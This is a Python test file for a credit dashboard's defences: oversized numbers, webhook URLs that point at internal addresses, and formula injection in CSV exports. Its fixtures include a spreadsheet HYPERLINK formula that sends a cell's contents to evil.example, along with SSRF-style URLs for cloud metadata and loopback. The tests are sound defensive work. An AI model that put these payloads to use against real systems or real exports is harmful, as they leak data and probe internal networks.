"""The dashboard's forms and exports against hostile input: numbers past 64 bits come back as
the form's message (never a 500), webhooks to the server's own network are refused, and every
CSV export neutralises cells a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io
import re
import warnings
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

import creditbook
from creditbook.config import Settings
from creditbook.domain.clock import FrozenClock
from creditbook.domain.ledger import Actor
from creditbook.entrypoints.api import create_app
from creditbook.service.access import AccessService
from creditbook.service.enrichment import enrichment_for

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

SECRET = "dashboard-tests-secret-key-0123456789abcdef"
HUGE = str(10**20)
RANGE = "from 0 to 1,000,000,000,000"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Click me")'
SUMMED_EMAIL = "=1+2@acme.io"


@dataclass
class Dash:
    book: creditbook.Creditbook
    access: AccessService
    client: TestClient
    team_id: str
    admin_id: str
    member_id: str
    key_id: str
    csrf: str

    def post(self, path: str, data: dict[str, str], back: str) -> str:
        """POST a form the way a browser does (with its page as referer); the page shown after."""
        answer = self.client.post(
            path,
            data={"csrf": self.csrf, **data},
            headers={"referer": f"http://testserver{back}"},
        )
        assert answer.status_code == 200, (answer.status_code, answer.text[:300])
        return answer.text


@pytest.fixture
def dash(tmp_path: Path, clock: FrozenClock, monkeypatch: pytest.MonkeyPatch) -> Iterator[Dash]:
    monkeypatch.setenv("CREDITBOOK_NOTIFY_WORKER", "0")
    monkeypatch.delenv("CREDITBOOK_WEBHOOK_ALLOW_PRIVATE", raising=False)
    book = creditbook.open(f"sqlite:///{tmp_path / 'web.db'}", clock=clock)
    access = AccessService(book.kernel).install()
    team, admin, admin_key = access.create_team("Acme", time_zone="UTC", admin_email="a@x.io")
    member, member_key = access.add_member(team.id, SUMMED_EMAIL, "member")
    book.grant(team.id, 1_000, reason=HYPERLINK)
    book.charge(team.id, "phone_finder", outcome="found", actor=Actor(member_id=member.id))
    app = create_app(book, Settings(env="test", secret_key=SECRET, operator_key=SECRET))
    with TestClient(app, raise_server_exceptions=False) as client:
        page = client.get("/dashboard/signin")
        client.post(
            "/dashboard/signin",
            data={"csrf": _csrf(page.text), "api_key": admin_key.api_key},
            follow_redirects=False,
        )
        csrf = _csrf(client.get("/dashboard/").text)
        yield Dash(book, access, client, team.id, admin.id, member.id, member_key.key_id, csrf)
    assert book.engine is not None
    book.engine.dispose()


def _csrf(html: str) -> str:
    found = re.search(r'name="csrf" value="([^"]+)"', html)
    assert found, "no CSRF field in the page"
    return found.group(1)


def _estimate_job(dash: Dash, lead: dict[str, str] | None = None) -> str:
    job = enrichment_for(dash.book).create_job(
        dash.team_id,
        [lead or {"first_name": "A", "last_name": "B", "company_domain": "b.example"}],
        ["email_finder"],
        member_id=dash.admin_id,
        estimate_only=True,
    )
    return job.id


# ---- numbers past 64 bits ----------------------------------------------------------------


def test_a_members_monthly_cap_past_the_maximum_is_the_forms_message(dash: Dash) -> None:
    page = dash.post(
        f"/dashboard/members/{dash.member_id}", {"monthly_cap": HUGE}, "/dashboard/members"
    )
    assert f"the monthly cap is a whole number of credits {RANGE}" in page
    assert dash.access.get_member(dash.team_id, dash.member_id).monthly_cap is None


def test_a_keys_monthly_cap_past_the_maximum_is_the_forms_message(dash: Dash) -> None:
    page = dash.post(
        f"/dashboard/members/keys/{dash.key_id}", {"monthly_cap": HUGE}, "/dashboard/members"
    )
    assert f"the monthly cap is a whole number of credits {RANGE}" in page
    assert dash.access.get_key(dash.team_id, dash.key_id).monthly_cap is None


@pytest.mark.parametrize(
    ("field", "label"),
    [
        ("low_balance_threshold", "the low-balance threshold"),
        ("auto_recharge_threshold", "the auto-recharge threshold"),
    ],
)
def test_a_threshold_past_the_maximum_is_the_forms_message(
    dash: Dash, field: str, label: str
) -> None:
    page = dash.post("/dashboard/settings", {field: HUGE}, "/dashboard/settings")
    assert f"{label} is a whole number of credits {RANGE}" in page
    assert getattr(dash.book.purchases.settings(dash.team_id), field) is None


def test_a_digit_string_of_any_length_is_a_message_not_an_overflow(dash: Dash) -> None:
    page = dash.post(
        "/dashboard/settings", {"low_balance_threshold": "9" * 5000}, "/dashboard/settings"
    )
    assert "got a number of more than 30 digits" in page


def test_a_resume_credit_limit_past_the_maximum_is_the_forms_message(dash: Dash) -> None:
    job_id = _estimate_job(dash)
    back = f"/dashboard/enrichment/{job_id}"
    page = dash.post(f"{back}/resume", {"credit_limit": HUGE}, back)
    assert f"the credit limit is a whole number of credits {RANGE}" in page
    job = enrichment_for(dash.book).get_job(dash.team_id, job_id)
    assert job.status == "paused" and job.credit_limit is None


def test_a_sample_size_past_the_maximum_is_the_forms_message(dash: Dash) -> None:
    answer = dash.client.post(
        "/dashboard/enrichment",
        data={"csrf": dash.csrf, "features": "email_finder", "action": "sample",
              "sample_size": "9" * 5000},
        files={"leads": ("leads.csv", b"first_name,last_name,company_domain\nA,B,b.example\n")},
        headers={"referer": "http://testserver/dashboard/enrichment"},
    )  # fmt: skip
    assert answer.status_code == 200, answer.text[:300]
    assert "the sample size is a whole number of leads from 1 to 1,000,000" in answer.text


# ---- webhooks to the server's own network ---------------------------------------------------


@pytest.mark.parametrize(
    ("url", "why"),
    [
        ("http://169.254.169.254/latest/meta-data/", "a link-local address"),
        ("http://2130706433/", "2130706433 is 127.0.0.1, a loopback address"),
        ("http://[::ffff:10.0.0.1]/", "a private address"),
    ],
)
def test_a_webhook_to_the_servers_own_network_is_refused_by_the_settings_form(
    dash: Dash, url: str, why: str
) -> None:
    page = dash.post("/dashboard/settings", {"webhook_url": url}, "/dashboard/settings")
    assert why in page and "public addresses only" in page
    assert dash.book.purchases.settings(dash.team_id).webhook_url is None


# ---- CSV exports -----------------------------------------------------------------------------


def test_the_ledger_export_neutralises_a_planted_email_and_memo_and_keeps_credits_numbers(
    dash: Dash,
) -> None:
    answer = dash.client.get("/dashboard/usage.csv")
    assert answer.status_code == 200
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    [charge] = [r for r in rows if r["kind"] == "charge"]
    [grant] = [r for r in rows if r["kind"] == "grant"]
    assert charge["by"] == "'" + SUMMED_EMAIL
    assert grant["memo"] == "'" + HYPERLINK
    assert int(charge["credits"]) == 20 or int(charge["credits"]) == -20  # a number, unquoted


def test_the_results_export_neutralises_planted_lead_fields(dash: Dash) -> None:
    lead = {"first_name": HYPERLINK, "last_name": "@SUM(1)", "company_domain": "b.example",
            "email": SUMMED_EMAIL}  # fmt: skip
    job_id = _estimate_job(dash, lead)
    answer = dash.client.get(f"/dashboard/enrichment/{job_id}/results.csv")
    assert answer.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(answer.text)))
    assert row["first_name"] == "'" + HYPERLINK
    assert row["last_name"] == "'@SUM(1)"
    assert row["email"] == "'" + SUMMED_EMAIL
    assert row["company_domain"] == "b.example"
